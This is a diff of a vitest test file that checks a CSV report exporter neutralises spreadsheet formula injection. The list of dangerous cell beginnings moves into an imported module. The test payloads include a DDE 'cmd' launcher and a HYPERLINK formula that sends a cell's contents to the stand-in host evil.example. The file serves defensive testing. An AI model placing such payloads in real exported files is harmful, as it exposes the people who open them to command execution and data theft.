@@ -2,6 +2,7 @@
 import { describe, expect, it } from 'vitest';
 import { LOCALES } from '../../../src/conversation/locale.ts';
 import { asCsv } from '../../../src/reports/result/as-csv.ts';
+import { LIVE_BEGINNINGS } from '../live-patterns.ts';
 import { NAMES, reportOf } from './made-reports.ts';
 
 /** Reads it as RFC 4180 says, with semicolons. */
@@ -41,14 +42,9 @@ it('say what was judged, what holds it down and what to do, and by the ASCII min
   expect(workbook).not.toContain('\u2212');
 });
 
-const BEGINNINGS = [
-  ...['=', '+', '-', '@', '==', '=+', '+-', '-+', '@@', '=@', '"=', "'=", '{=', '=(', '|'],
-  ...[' =', '\u00a0=', '\u3000=', '\ufeff=', '\u200b=', '\t=', '\r=', '\n=', '\u0000=', ';=', ',='],
-  ...['＝', '＋', '－', '＠', '\u2212'],
-];
 const TAILS = ["cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"Katso")', '1+1', 'A1'];
 
-it.each(BEGINNINGS)('nothing that begins with %j is live', beginning => {
+it.each(LIVE_BEGINNINGS)('nothing that begins with %j is live', beginning => {
   for (const tail of TAILS) {
     const words = beginning + tail;
     const cells = cellsIn(asCsv(reportOf('some of everything', 'fi', { notes: { need: words } }))).flat();
